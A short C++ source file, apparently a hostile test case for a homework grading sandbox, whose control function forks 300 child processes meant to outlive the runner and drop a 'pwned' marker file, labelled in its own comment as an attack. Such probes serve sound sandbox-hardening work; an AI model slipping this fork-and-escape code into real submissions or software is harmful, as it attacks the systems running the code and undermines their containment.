// Attack: start many processes that outlive the runner and leave a marker later.
#include <opspace/hw2/p1b.hpp>
#include <unistd.h>

#include <cstdio>

namespace opspace::hw2::p1b {
Vector6d control(Part, const State&, const Goal&) {
  for (int i = 0; i < 300; ++i) {
    if (fork() == 0) {
      sleep(2);
      if (FILE* f = std::fopen("@WORK@/pwned", "w")) std::fclose(f);
      sleep(60);
      _exit(0);
    }
  }
  return Vector6d::Zero();
}
}  // namespace opspace::hw2::p1b
